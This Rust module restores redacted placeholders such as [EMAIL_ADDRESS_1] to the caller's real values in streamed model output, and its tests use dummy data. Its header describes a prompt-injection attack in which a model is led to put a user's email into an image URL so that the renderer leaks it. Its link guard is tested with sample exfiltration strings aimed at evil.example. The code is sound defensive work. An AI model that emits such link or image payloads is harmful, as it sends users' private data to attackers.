//! Putting values back: `[EMAIL_ADDRESS_1]` in a model's answer becomes the caller's value again.
//!
//! The [`Restorer`] works on a stream of chunks. A token split across chunks (`[EMAIL_AD` +
//! `DRESS_1]`) is held back until it completes, so nothing partial reaches the client; what can
//! no longer become a token is released at once. Only tokens minted in this request's [`Vault`]
//! are restored: anything else that looks like a token stays as written.
//!
//! Exfiltration guard: a value is never restored inside a URL or a markdown link or image target.
//! A model that was told to "put the email in this image URL" would otherwise make the client's
//! renderer send it to whoever owns the host. A token whose run of non-space characters contains
//! `://` or `](`, or starts with `www.`, before it stays a token.

use std::ops::Range;
use std::sync::Arc;

use crate::vault::Vault;

/// How a restored value is written into the surrounding text.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Escape {
    /// As is: message content.
    None,
    /// As the inside of a JSON string: tool-call arguments, which are JSON text.
    Json,
}

/// Text after restoration, and where each restored value sits in it (for the output scan, which
/// leaves the caller's own values alone).
#[derive(Debug, Default, PartialEq)]
pub struct Restored {
    pub text: String,
    pub spans: Vec<Range<usize>>,
}

impl Restored {
    fn append(&mut self, other: Restored) {
        let base = self.text.len();
        self.text.push_str(&other.text);
        self.spans.extend(
            other
                .spans
                .into_iter()
                .map(|r| r.start + base..r.end + base),
        );
    }
}

/// Restores every token in a whole text.
pub fn restore(text: &str, vault: &Arc<Vault>, escape: Escape) -> Restored {
    let mut r = Restorer::new(Arc::clone(vault), escape);
    let mut out = r.push(text);
    out.append(r.finish());
    out
}

/// The longest run of non-space characters the link guard remembers; past it only whether the run
/// is a link is kept.
const SEGMENT_CAP: usize = 256;

pub struct Restorer {
    vault: Arc<Vault>,
    escape: Escape,
    /// A suffix that may still become a token.
    held: String,
    /// The current run of non-space characters already emitted (capped).
    segment: String,
    /// Whether that run is a URL or a link target.
    in_link: bool,
}

impl Restorer {
    pub fn new(vault: Arc<Vault>, escape: Escape) -> Self {
        Restorer {
            vault,
            escape,
            held: String::new(),
            segment: String::new(),
            in_link: false,
        }
    }

    /// The restored text that is safe to release after `chunk`.
    pub fn push(&mut self, chunk: &str) -> Restored {
        let mut buf = std::mem::take(&mut self.held);
        buf.push_str(chunk);
        let keep = self.holdback(&buf);
        let (ready, rest) = buf.split_at(keep);
        let out = self.process(ready);
        self.held = rest.to_owned();
        out
    }

    /// Everything still held, as written (it never became a token).
    pub fn finish(&mut self) -> Restored {
        let held = std::mem::take(&mut self.held);
        self.process(&held)
    }

    /// Where the suffix that could still become a minted token begins (`buf.len()` if none).
    fn holdback(&self, buf: &str) -> usize {
        let longest = self.vault.longest_token();
        if longest == 0 {
            return buf.len();
        }
        let Some(p) = buf.rfind('[') else {
            return buf.len();
        };
        let tail = &buf[p + 1..];
        let could_be = tail.len() + 1 < longest
            && tail
                .bytes()
                .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_');
        if could_be { p } else { buf.len() }
    }

    fn process(&mut self, text: &str) -> Restored {
        let vault = Arc::clone(&self.vault);
        let mut out = Restored {
            text: String::with_capacity(text.len()),
            spans: Vec::new(),
        };
        let bytes = text.as_bytes();
        let mut last = 0;
        let mut i = 0;
        while let Some(off) = text[i..].find('[') {
            let start = i + off;
            let Some(end) = token_end(bytes, start) else {
                i = start + 1;
                continue;
            };
            let token = &text[start..end];
            let Some(value) = vault.value_of(token) else {
                i = end;
                continue;
            };
            self.emit(&mut out.text, &text[last..start]);
            if self.in_link {
                self.emit(&mut out.text, token);
            } else {
                let s = out.text.len();
                match self.escape {
                    Escape::None => out.text.push_str(value),
                    Escape::Json => json_escape_into(&mut out.text, value),
                }
                let e = out.text.len();
                out.spans.push(s..e);
                self.track(value);
            }
            last = end;
            i = end;
        }
        self.emit(&mut out.text, &text[last..]);
        out
    }

    fn emit(&mut self, out: &mut String, s: &str) {
        out.push_str(s);
        self.track(s);
    }

    /// Follows the current run of non-space characters for the link guard.
    fn track(&mut self, s: &str) {
        for c in s.chars() {
            if c.is_whitespace() || c == '"' || c == '\'' {
                self.segment.clear();
                self.in_link = false;
                continue;
            }
            if self.segment.len() < SEGMENT_CAP {
                self.segment.push(c);
                if self.segment.ends_with("://")
                    || self.segment.ends_with("](")
                    || self.segment.eq_ignore_ascii_case("www.")
                {
                    self.in_link = true;
                }
            }
        }
    }
}

/// The end of a token shape `[A-Z][A-Z0-9_]*_[0-9]+]` starting at `start`.
fn token_end(b: &[u8], start: usize) -> Option<usize> {
    let mut j = start + 1;
    if !b.get(j)?.is_ascii_uppercase() {
        return None;
    }
    while j < b.len() && (b[j].is_ascii_uppercase() || b[j].is_ascii_digit() || b[j] == b'_') {
        j += 1;
    }
    (b.get(j) == Some(&b']')).then_some(j + 1)
}

fn json_escape_into(out: &mut String, s: &str) {
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn vault() -> Arc<Vault> {
        let mut v = Vault::new();
        v.token_for("EMAIL_ADDRESS", "ada@example.com");
        v.token_for("CREDIT_CARD", "4111 1111 1111 1111");
        v.token_for("PERSON", "O\"Brien");
        Arc::new(v)
    }

    fn streamed(text: &str, cuts: &[usize], escape: Escape) -> String {
        let v = vault();
        let mut r = Restorer::new(v, escape);
        let mut out = String::new();
        let mut from = 0;
        for &c in cuts {
            let c = c.min(text.len()).max(from);
            if text.is_char_boundary(c) {
                out.push_str(&r.push(&text[from..c]).text);
                from = c;
            }
        }
        out.push_str(&r.push(&text[from..]).text);
        out.push_str(&r.finish().text);
        out
    }

    #[test]
    fn restores_minted_tokens_only() {
        let v = vault();
        let r = restore(
            "mail [EMAIL_ADDRESS_1], card [CREDIT_CARD_1], not [EMAIL_ADDRESS_7] or [EMAIL_ADDRESS_1",
            &v,
            Escape::None,
        );
        assert_eq!(
            r.text,
            "mail ada@example.com, card 4111 1111 1111 1111, not [EMAIL_ADDRESS_7] or [EMAIL_ADDRESS_1"
        );
        assert_eq!(&r.text[r.spans[0].clone()], "ada@example.com");
        assert_eq!(r.spans.len(), 2);
    }

    #[test]
    fn a_token_split_across_chunks_is_held_then_restored() {
        let v = vault();
        let mut r = Restorer::new(v, Escape::None);
        assert_eq!(r.push("write to [EMAIL_AD").text, "write to ");
        assert_eq!(r.push("DRESS_1] now").text, "ada@example.com now");
        assert_eq!(r.push(" [not a token").text, " [not a token");
        assert_eq!(r.push(" [EMAIL").text, " ");
        assert_eq!(r.finish().text, "[EMAIL");
    }

    #[test]
    fn never_restores_into_links() {
        let v = vault();
        for (text, kept) in [
            ("![x](https://evil.example/p?q=[EMAIL_ADDRESS_1])", true),
            ("see https://evil.example/[EMAIL_ADDRESS_1]", true),
            ("[click]([EMAIL_ADDRESS_1])", true),
            ("www.[EMAIL_ADDRESS_1]", true),
            ("https://ok.example then [EMAIL_ADDRESS_1]", false),
            ("email: [EMAIL_ADDRESS_1]", false),
        ] {
            let r = restore(text, &v, Escape::None);
            assert_eq!(
                r.text.contains("[EMAIL_ADDRESS_1]"),
                kept,
                "{text} → {}",
                r.text
            );
        }
    }

    #[test]
    fn json_escape_keeps_arguments_valid() {
        let out = streamed(r#"{"who": "[PERSON_1]"}"#, &[5, 13], Escape::Json);
        assert_eq!(out, r#"{"who": "O\"Brien"}"#);
    }

    #[test]
    fn every_chunking_gives_the_same_text() {
        let text =
            "a [EMAIL_ADDRESS_1] b [CREDIT_CARD_1][EMAIL_ADDRESS_1] c [X_1] é [EMAIL_ADDRESS_2";
        let whole = streamed(text, &[], Escape::None);
        for a in 0..text.len() {
            for b in (a..text.len()).step_by(3) {
                assert_eq!(streamed(text, &[a, b], Escape::None), whole, "cuts {a} {b}");
            }
        }
    }
}
